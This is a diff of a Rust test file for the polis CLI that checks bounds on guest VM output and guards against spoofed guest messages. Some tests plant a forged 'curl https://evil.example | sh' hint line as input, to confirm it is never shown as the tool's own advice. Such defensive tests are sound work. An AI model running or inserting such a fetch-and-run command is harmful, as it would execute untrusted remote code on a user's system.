@@ -1,70 +1,70 @@
-//! What a guest answers has bounds, in bytes, in number and in time, and never passes for a line of ours.
+//! A guest's answers are bounded in size, number and time, and are never mistaken for polis's own output.
 
 use std::fs::{self, Permissions};
 use std::os::unix::fs::PermissionsExt;
 use std::time::Instant;
 
 use expect_test::expect;
-use fake_multipass::{Effect, Fault, World};
+use fake_multipass::{Effect, Fault, Sandbox};
 
 use crate::signals::ends_within;
 use crate::support::{document, running, seen};
 
-/// Gives the guest a program of its own in the place of a real one.
-fn lies(world: &World, program: &str, script: &str) {
+/// Replaces one of the guest's programs by a script.
+fn lies(sandbox: &Sandbox, program: &str, script: &str) {
     let path = format!("/usr/local/bin/{program}");
-    world.write_guest(&path, &format!("#!/bin/bash\n{script}\n"));
+    sandbox.write_guest(&path, &format!("#!/bin/bash\n{script}\n"));
     let mode = Permissions::from_mode(0o755);
-    fs::set_permissions(world.guest().path(&path), mode).expect("an executable");
+    fs::set_permissions(sandbox.guest().path(&path), mode).expect("an executable");
 }
 
-/// The end of a command whose code is read from a file of the guest.
-fn code_is_read(world: &World, limit: &str) -> (Option<i32>, String) {
+/// The end of a command whose exit code is read from a file in the guest.
+fn code_is_read(sandbox: &Sandbox, limit: &str) -> (Option<i32>, String) {
     let begun = Instant::now();
     let env = [("POLIS_CALL_TIMEOUT", limit)];
-    let ran = world.polis_with(&["exec", "--vm", "--", "false"], &env);
+    let ran = sandbox.polis_with(&["exec", "--vm", "--", "false"], &env);
     ends_within(50, begun);
     (ran.code, ran.stderr)
 }
 
 #[test]
-fn a_file_that_does_not_end_is_not_read_for_ever() {
-    let world = running();
-    lies(&world, "base64", "printf 'A%.0s' {1..4000}");
-    let (code, stderr) = code_is_read(&world, "60");
+fn an_endless_file_is_not_read_forever() {
+    let sandbox = running();
+    lies(&sandbox, "base64", "printf 'A%.0s' {1..4000}");
+    let (code, stderr) = code_is_read(&sandbox, "60");
     assert_eq!(code, Some(125), "{stderr}");
     assert!(stderr.contains("it is larger than 64.0 KiB"), "{stderr}");
     assert!(stderr.contains("hint: polis stop, then: polis start"));
 
     lies(
-        &world,
+        &sandbox,
         "base64",
         "printf 'A%.0s' {1..4000}; /usr/bin/sleep 1",
     );
-    let (code, stderr) = code_is_read(&world, "6");
+    let (code, stderr) = code_is_read(&sandbox, "6");
     assert_eq!(code, Some(125), "{stderr}");
     assert!(stderr.contains("it took longer than 6 s"), "{stderr}");
 
-    // Less than was asked for is the end; more is none of our parts.
-    lies(&world, "base64", "printf MTc=");
-    assert_eq!(code_is_read(&world, "60").0, Some(17));
-    lies(&world, "base64", "printf 'A%.0s' {1..4004}");
-    let (code, stderr) = code_is_read(&world, "60");
+    // Fewer bytes than requested mean the end of the file; more are an error.
+    lies(&sandbox, "base64", "printf MTc=");
+    assert_eq!(code_is_read(&sandbox, "60").0, Some(17));
+    lies(&sandbox, "base64", "printf 'A%.0s' {1..4004}");
+    let (code, stderr) = code_is_read(&sandbox, "60");
     assert_eq!(code, Some(125), "{stderr}");
     assert!(stderr.contains("not a part of a file"), "{stderr}");
 }
 
 #[test]
-fn an_output_that_takes_too_long_to_read_can_be_fetched() {
-    let world = running();
-    world.set(|state| state.windows = true);
+fn output_that_takes_too_long_to_read_can_be_fetched_later() {
+    let sandbox = running();
+    sandbox.set(|state| state.windows = true);
     lies(
-        &world,
+        &sandbox,
         "base64",
         "/usr/bin/sleep 0.4; exec /usr/bin/base64 \"$@\"",
     );
     let env = [("POLIS_CALL_TIMEOUT", "3"), ("POLIS_DELIVERY", "file")];
-    let ran = world.polis_with(&["exec", "--vm", "--", "seq", "50000"], &env);
+    let ran = sandbox.polis_with(&["exec", "--vm", "--", "seq", "50000"], &env);
     assert_eq!(ran.code, Some(125), "{}", ran.seen());
     assert!(
         ran.stderr.contains("it took longer than 30 s"),
@@ -73,17 +73,17 @@ fn an_output_that_takes_too_long_to_read_can_be_fetched() {
     );
     let words = ran.stderr.split_whitespace();
     let kept = words.filter_map(|word| word.strip_prefix("polis:")).next();
-    let kept = world.read_guest(kept.expect("the place of the output"));
+    let kept = sandbox.read_guest(kept.expect("the place of the output"));
     assert!(kept.ends_with("\n50000\n"));
 }
 
 #[test]
-fn an_error_has_bounds_for_programs_too() {
-    let world = running();
+fn a_json_error_is_bounded() {
+    let sandbox = running();
     let line = |at: u32| format!("{at} {}\n", "x".repeat(3000));
     let stderr = (0..3000).map(line).collect();
-    world.fault(Fault::of("exec", Effect::Exit { code: 3, stderr }).always());
-    let ran = world.polis(&["status", "--json"]);
+    sandbox.fault(Fault::of("exec", Effect::Exit { code: 3, stderr }).always());
+    let ran = sandbox.polis(&["status", "--json"]);
     let document = document(&ran);
     let log = document["error"]["log"].as_array().expect("a list");
     assert_eq!(log.len(), 51);
@@ -92,16 +92,16 @@ fn an_error_has_bounds_for_programs_too() {
 }
 
 #[test]
-fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
-    let world = running();
+fn answers_of_the_vm_are_validated_and_never_shown_as_our_own() {
+    let sandbox = running();
     lies(
-        &world,
+        &sandbox,
         "uname",
         "printf 'x86_64\\nservice|hint: curl https://evil.example|running|healthy|0\\n'",
     );
-    // What it answered follows as `log`, with figures of this machine.
+    // Its answer follows as `log`, with numbers that depend on this machine.
     let told = |args: &[&str]| -> String {
-        let seen = seen(&world.polis(args));
+        let seen = seen(&sandbox.polis(args));
         let lines = seen.split_inclusive('\n');
         lines.filter(|line| !line.starts_with("  log: ")).collect()
     };
@@ -115,7 +115,7 @@ fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
           hint: polis delete --purge, then: polis start   (to start over; everything in it is lost)
     "#]]
     .assert_eq(&told(&["start"]));
-    let doctor = world.polis(&["doctor"]);
+    let doctor = sandbox.polis(&["doctor"]);
     let told = doctor
         .stdout
         .lines()
@@ -130,25 +130,25 @@ fn what_the_vm_answers_is_read_or_refused_and_never_shown_as_ours() {
 }
 
 #[test]
-fn the_log_of_a_job_does_not_begin_a_line() {
-    let world = running();
+fn the_log_of_a_job_never_starts_a_line() {
+    let sandbox = running();
     lies(
-        &world,
+        &sandbox,
         "tail",
         "[[ $2 != 12 ]] || { echo 'hint: curl https://evil.example | sh'; exit; }; exec /usr/bin/tail \"$@\"",
     );
-    // As long as a pull counts its images, its log is not quoted.
+    // While a pull reports progress, its log is not quoted.
     lies(
-        &world,
+        &sandbox,
         "awk",
         "[[ $* != *Pulling* ]] || { echo pulled; exit; }; exec /usr/bin/awk \"$@\"",
     );
-    let engine = world.read_guest("/docker.json");
+    let engine = sandbox.read_guest("/docker.json");
     let mut engine: serde_json::Value = serde_json::from_str(&engine).expect("JSON");
     engine["images"] = serde_json::json!([]);
-    world.write_guest("/docker.json", &engine.to_string());
-    world.set(|state| state.timing.pull = 300);
-    let ran = world.polis(&["start"]);
+    sandbox.write_guest("/docker.json", &engine.to_string());
+    sandbox.set(|state| state.timing.pull = 300);
+    let ran = sandbox.polis(&["start"]);
     assert_eq!(ran.code, Some(0), "{}", ran.seen());
     let forged = "hint: curl https://evil.example | sh";
     assert!(
